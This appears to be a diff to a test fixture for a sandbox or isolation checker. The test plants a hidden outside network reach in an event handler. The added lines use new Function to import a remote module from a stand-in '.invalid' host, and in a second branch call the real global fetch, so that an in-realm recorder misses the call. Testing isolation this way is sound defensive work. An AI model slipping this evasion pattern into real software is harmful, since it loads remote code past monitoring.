@@ -25,11 +25,16 @@ export default planted('reaches-outside', ({ timers, sockets, requests, events }
   events: {
     open(...given) {
       // The recorder in the realm cannot see this one: the wall around the engine must.
-      if (live) new Function('url', 'return import(url)')('http://lanecheck-unseen.invalid/module.js').catch(() => undefined)
+      if (live && !bridged()) new Function('url', 'return import(url)')('http://lanecheck-unseen.invalid/module.js').catch(() => undefined)
+      // Over the bridge it is the fetch of the host's real global.
+      if (live && bridged()) (new Function('return globalThis')() as typeof globalThis).fetch('http://lanecheck-unseen.invalid/').catch(() => undefined)
       return events!.open(...given)
     },
   },
 }), { host_roles: ['window', 'dedicated_worker', 'service_worker'] })
+
+/** Neither a window nor a worker of an engine. */
+const bridged = (): boolean => typeof document === 'undefined' && !('WorkerGlobalScope' in globalThis)
 
 function loadScript(url: string): void {
   try {
